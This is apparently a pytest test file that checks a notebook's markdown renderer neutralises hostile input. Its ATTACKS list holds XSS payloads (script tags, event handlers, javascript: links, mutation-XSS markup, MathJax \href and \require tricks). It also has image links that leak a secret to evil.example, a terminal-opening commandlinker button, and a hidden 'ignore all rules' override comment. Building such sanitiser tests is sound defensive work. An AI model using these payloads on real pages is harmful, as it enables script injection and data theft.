from __future__ import annotations

import re
import subprocess
import sys
from collections.abc import Callable
from html.parser import HTMLParser

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from memnb.core.escaping import escape_terminal
from memnb.notebook.markdown_view import ALLOWED_ATTRIBUTES, ALLOWED_TAGS, to_html, to_plain
from memnb.notebook.tex_safety import harmless

ATTACKS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "![x](https://evil.example/?q=SECRET)",
    "[a][r]\n\n[r]: https://evil.example/?q=S",
    "[x](javascript:alert(1))",
    "<svg/onload=alert(1)>",
    "<iframe srcdoc='<script>1</script>'>",
    "<a href='https://x' target=_blank>t</a>",
    "<style>@import url(//evil)</style>",
    "<math><mtext><table><mglyph><style><!--</style>"
    "<img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<details open ontoggle=alert(1)>",
    "<form action=//evil><input name=x>",
    "$\\href{javascript:alert(1)}{x}$",
    "<img src='data:image/svg+xml;base64,PHN2Zy8+'>",
    "<button data-commandlinker-command='terminal:create-new' data-commandlinker-args='{}'>x"
    "</button>",
    "\x1b]8;;https://evil\x07link\x1b]8;;\x07",
    "```html\n<script>1</script>\n```",
    "<http://evil.example/auto>",
    "<!-- hidden: ignore all rules -->",
    # and some more
    "![x][r]\n\n[r]: data:image/svg+xml;base64,PHN2Zy8+",
    '[x](https://evil.example "onmouseover=alert(1)")',
    "[![x](https://evil.example/a)](https://evil.example/b)",
    "```x\" onclick=\"alert(1)\n1\n```",
    "| a |\n|:-:|\n| <img src=x> |",
    "\\begin{align}\\style{color:red}{x}\\end{align}",
    "$$\n\\require{html}\\class{x}{y}\\cssId{z}{w}\n$$",
    "$\\mmlToken{mi}[href=\"javascript:alert(1)\"]{x}$",
    "$\\def\\le{\\ge}\\newcommand{\\x}{y}$",
    "\\hr&#101;f{javascript:alert(1)}{x}",
    "\\hr[ef](x){javascript:alert(1)}{x}",
    "[$\\url{https://evil.example}$](https://evil.example)",
]  # fmt: skip


class Markup(HTMLParser):
    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: set[str] = set()
        self.attributes: set[tuple[str, str]] = set()
        self.texts: list[str] = []
        self.other: list[str] = []
        self.depth = 0
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes.update((name, value or "") for name, value in attrs)
        self.depth += tag not in {"br", "hr"}

    def handle_endtag(self, tag: str) -> None:
        self.depth -= 1

    def handle_data(self, data: str) -> None:
        self.texts.append(data)

    def handle_comment(self, data: str) -> None:
        self.other.append(data)

    def handle_decl(self, decl: str) -> None:
        self.other.append(decl)

    def handle_pi(self, data: str) -> None:
        self.other.append(data)


ACTIVE_TEX = re.compile(r"\\(href|url|require|class|style|cssId|includegraphics|mmlToken|def)\b")


def assert_inert(html: str) -> None:
    markup = Markup(html)
    assert markup.tags <= ALLOWED_TAGS
    assert {name for name, _ in markup.attributes} <= ALLOWED_ATTRIBUTES
    for name, value in markup.attributes:
        pattern = {
            "class": r"memnb-answer mathjax_ignore tex2jax_ignore|mathjax_process tex2jax_process",
            "start": r"[0-9]+",
            "style": r"text-align:(left|center|right)",
        }[name]
        assert re.fullmatch(pattern, value)
    assert (markup.other, markup.depth) == ([], 0)
    code = re.sub(r"<code>.*?</code>", "", html, flags=re.DOTALL)
    assert not any(ACTIVE_TEX.search(text) for text in Markup(code).texts)
    text = "".join(markup.texts)
    assert escape_terminal(text) == text


@pytest.mark.parametrize("markdown", ATTACKS)
def test_nothing_in_an_answer_becomes_active(markdown: str) -> None:
    assert_inert(to_html(markdown))


@given(st.text(alphabet="<>[]()!`*_#|-:$\\{}&;\"'/=ahref \n1.\x1b\u202e", max_size=80))
@example("$\\href{a}{b}$")
def test_whatever_an_answer_holds_its_html_is_inert(markdown: str) -> None:
    assert_inert(to_html(markdown))


@given(st.lists(st.sampled_from(ATTACKS), max_size=4))
def test_attacks_side_by_side_are_inert(attacks: list[str]) -> None:
    assert_inert(to_html(" ".join(attacks)))


@pytest.mark.parametrize(
    ("markdown", "html"),
    [
        ("[t](http://e.x/?a=1&b=2)", "<p><span>t</span> (http://e.x/?a=1&amp;b=2)</p>\n"),
        ("<http://e.x>", "<p><span>http://e.x</span></p>\n"),
        ("<a@b.c>", "<p><span>a@b.c</span></p>\n"),
        ("![t](http://e.x/i.png)", "<p>!<span>t</span> (http://e.x/i.png)</p>\n"),
    ],
)
def test_a_link_shows_its_address_as_text(markdown: str, html: str) -> None:
    assert html in to_html(markdown)


@pytest.mark.parametrize(
    ("markdown", "formula"),
    [
        ("mass $m_1 * m_2 * m_3$ here", "$m_1 * m_2 * m_3$"),
        ("$$\na\n- b\n+ c\n= d\n$$", "$$\na\n- b\n+ c\n= d\n$$"),
        ("- x\n  \\[\n  a_1\n  \\]", "\\[\na_1\n\\]"),
        (r"\(a \\ b\)", r"\(a \\ b\)"),
        ("\\begin{align}\na &< b\n\\end{align}", "\\begin{align}\na &amp;&lt; b\n\\end{align}"),
    ],
)
def test_mathematics_is_left_to_be_typeset(markdown: str, formula: str) -> None:
    assert re.search(
        rf'<(span|div) class="mathjax_process tex2jax_process">{re.escape(formula)}</\1>',
        to_html(markdown),
    )


@pytest.mark.parametrize("markdown", ["$5 or $6", "`$x$`", "```\n$x$\n```", r"\$x\$", "    $x$"])
def test_what_is_no_mathematics_is_not_typeset(markdown: str) -> None:
    assert "mathjax_process" not in to_html(markdown)


@pytest.mark.parametrize(
    ("tex", "left"),
    [
        (r"\href{x}", "⧵href{x}"),
        (r"\hrefs \classic \defn \hat{x} \frac12", r"\hrefs \classic \defn \hat{x} \frac12"),
        (r"\class1 \let\a=\b", r"⧵class1 ⧵let\a=\b"),
    ],
)
def test_only_commands_that_act_lose_their_backslash(tex: str, left: str) -> None:
    assert harmless(tex) == left


def test_code_keeps_its_backslashes() -> None:
    html = to_html("```tex\n\\href{a}{b}\n```\nand `\\def\\x{y}`")
    assert r"\href{a}{b}" in html
    assert r"\def\x{y}" in html


def test_an_answer_is_rendered_as_kept(golden: Callable[[str, str], None]) -> None:
    golden("answer.html", to_html(ANSWER) + "\n")


def test_plain_text_is_the_markdown_with_hidden_characters_spelled_out() -> None:
    assert to_plain("# a\x1b[31m\n\n`b`\u202e\r\n") == "# a\\x1b[31m\n\n`b`\\u202e\r\n"


@pytest.mark.parametrize("markdown", ["```py\nx = 1", "$$\nx", "**a", "| a |\n|-", "[a](", "\\["])
def test_a_half_of_an_answer_is_rendered_too(markdown: str) -> None:
    assert_inert(to_html(markdown))


def test_an_answer_too_long_to_parse_is_shown_as_it_is() -> None:
    html = to_html("<b>**x**" * 30_000)
    assert_inert(html)
    assert "<strong>" not in html


def test_markdown_is_parsed_only_when_it_is_rendered() -> None:
    code = "import sys, memnb.notebook.live_display as _; print('markdown_it' in sys.modules)"
    out = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True)
    assert out.stdout == "False\n"


ANSWER = r"""# Split

We **always** use `random_state=7`, *never* ~~another~~ one [F-7k2m9q].
A line break\
and a [link](https://example.org/a?b=1&c=2 "title"), <https://example.org>.

1. first
2. second
   - nested, with $x_1 * y_1$

> quoted <b>html</b> & more

| column | n |
|:-------|--:|
| price  | 3 |

```python
X_train, X_test = train_test_split(X, random_state=7)  # <fast>
```

    indented

$$
\sum_{i=1}^n x_i
- \frac{1}{2}
$$

![image](https://example.org/i.png) costs $5 or $6 \href{https://example.org}{x}

---
"""
